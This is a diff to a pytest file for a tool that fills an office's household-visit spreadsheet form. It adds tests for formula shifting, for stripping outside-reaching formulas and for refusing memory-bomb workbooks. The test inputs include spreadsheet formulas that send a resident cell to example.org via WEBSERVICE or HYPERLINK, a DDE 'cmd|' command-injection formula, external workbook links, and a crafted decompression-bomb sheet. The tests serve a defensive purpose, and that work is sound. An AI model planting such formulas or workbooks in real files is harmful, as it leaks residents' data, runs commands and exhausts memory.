@@ -1,13 +1,21 @@
 """An office's own form, filled in from a period's visits in its columns, order, sheets and styles."""
 
+import zipfile
 from datetime import date
 from pathlib import Path
 
 import pandas as pd
 import pytest
+from hostile_workbooks import text_cell, workbook_of
 from ledger_town import ledger_town, write_warnings
 from openpyxl import Workbook, load_workbook
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.packaging.relationship import Relationship
 from openpyxl.styles import Font
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.workbook.external_link import ExternalLink
+from openpyxl.workbook.external_link.external import ExternalBook, ExternalSheetNames
+from openpyxl.worksheet.datavalidation import DataValidation
 
 from features.language import UserError
 from service.ledgers.form import fill_form, form_name
@@ -102,6 +110,97 @@ def test_a_form_is_filled_one_row_a_household_and_keeps_its_looks(tmp_path: Path
     assert page["B6"].font.size == 9 and page["A7"].value == "填表人："
     assert "A7:H7" in {str(area) for area in page.merged_cells.ranges}
     assert any("填了 3 户" in line for line in filled.lines)
+
+
+def test_formulas_follow_the_rows_that_move(tmp_path: Path) -> None:
+    template = form(tmp_path / "汇总表.xlsx")
+    book = load_workbook(template)
+    page = book["一户一条"]
+    page["A7"], page["D7"], page["E7"] = "合计", "=COUNTA(D4:D5)", "=D7+$D$2"
+    page["A8"].hyperlink = "https://example.org/"
+    page.print_area = "A1:H7"
+    book["说明"]["A2"], book["说明"]["A3"] = "=一户一条!D7", "=D7"
+    book.save(template)
+    (tmp_path / "out.xlsx").write_bytes(fill_form(template, rows(5), register(), tmp_path).content)
+    book = load_workbook(tmp_path / "out.xlsx")
+    page = book["一户一条"]
+    assert [page["A10"].value, page["D10"].value, page["E10"].value] == [
+        "合计",
+        "=COUNTA(D4:D8)",
+        "=D10+$D$2",
+    ]
+    assert [book["说明"]["A2"].value, book["说明"]["A3"].value] == ["=一户一条!D10", "=D7"]
+    assert page["A11"].hyperlink.target == "https://example.org/" and page["A8"].hyperlink is None
+    assert page.print_area == "'一户一条'!$A$1:$H$10"
+
+
+def test_no_formula_of_a_filled_form_reaches_outside(tmp_path: Path) -> None:
+    """Beside residents' data it would send it to another place, or bring in what stands there."""
+    template = form(tmp_path / "汇总表.xlsx")
+    book = load_workbook(template)
+    page = book["一户一条"]
+    outside = (
+        '=_xlfn.WEBSERVICE("http://example.org/"&B4)',
+        '=HYPERLINK("http://example.org/?"&B4,"见此")',
+        "=SUM([1]Sheet1!A1)",
+        "='C:\\表\\[上级.xlsx]Sheet1'!A1",
+        "=cmd|'/c calc'!A0",
+        "=上级的数",
+        "=COUNTA(D4:D5)",
+    )
+    page["A7"] = "合计"
+    for column, formula in zip("BCDEFGH", outside, strict=True):
+        page[f"{column}7"] = formula
+    book.defined_names["上级的数"] = DefinedName("上级的数", attr_text='WEBSERVICE("http://example.org/")')
+    book._external_links.append(_other_file())
+    page.conditional_formatting.add("B4:B9", FormulaRule(formula=["上级的数=B4"]))
+    rule = DataValidation(type="list", formula1="上级的数")
+    rule.add("B4:B9")
+    page.add_data_validation(rule)
+    book.save(template)
+    filled = fill_form(template, rows(), register(), tmp_path)
+    (tmp_path / "out.xlsx").write_bytes(filled.content)
+    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
+        content = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
+    words = ("example.org", "上级", "cmd|", "externalLink")
+    assert not [(name, word) for name, text in content.items() for word in words if word in text]
+    assert load_workbook(tmp_path / "out.xlsx")["一户一条"]["H8"].value == "=COUNTA(D4:D6)"
+    assert "B7、C7、D7、E7、F7、G7：公式要用到别的文件" in filled.lines[0]
+    assert "链接已去掉" in filled.lines[1]
+
+
+def _other_file() -> ExternalLink:
+    book = ExternalBook(sheetNames=ExternalSheetNames(["Sheet1"]), id="rId1")
+    link = ExternalLink(externalBook=book)
+    link.file_link = Relationship(type="externalLinkPath", Target="上级.xlsx", TargetMode="External")
+    return link
+
+
+def test_rows_that_are_numbered_already_are_filled(tmp_path: Path) -> None:
+    template = form(tmp_path / "汇总表.xlsx", blank=3)
+    book = load_workbook(template)
+    for line in (4, 5, 6):
+        book["一户一条"][f"A{line}"] = line - 3
+    book.save(template)
+    (tmp_path / "out.xlsx").write_bytes(fill_form(template, rows(2), register(), tmp_path).content)
+    page = load_workbook(tmp_path / "out.xlsx")["一户一条"]
+    told = [(page.cell(line, 1).value, page.cell(line, 2).value) for line in range(4, 8)]
+    assert told == [(1, TOWN.homes[0].head[0]), (2, TOWN.homes[1].head[0]), (3, None), ("填表人：", None)]
+
+
+def test_a_form_that_would_fill_the_memory_is_refused(tmp_path: Path) -> None:
+    """A sheet of cells with nothing but a style is a small file, and takes gigabytes once it is opened to be filled."""
+    heads = "".join(
+        text_cell(place, word) for place, word in (("A1", "户主姓名"), ("B1", "家庭住址"), ("C1", "核查情况"))
+    )
+    first = f'<row r="1">{heads}</row>'
+    styled = "".join(f'<row r="{line}">{"<c/>" * 8000}</row>' for line in range(2, 800))
+    merged = '</sheetData><mergeCells><mergeCell ref="A2:XFD1048576"/></mergeCells><sheetData>'
+    for rows_below in (styled, merged):
+        path = workbook_of(tmp_path / "表.xlsx", first + rows_below, "A1:C1")
+        assert path.stat().st_size < 1 << 18
+        with pytest.raises(UserError, match="不像一张表格"):
+            fill_form(path, rows(), register(), tmp_path)
 
 
 def test_a_list_from_above_gets_its_blank_cells_and_nothing_else(tmp_path: Path) -> None:
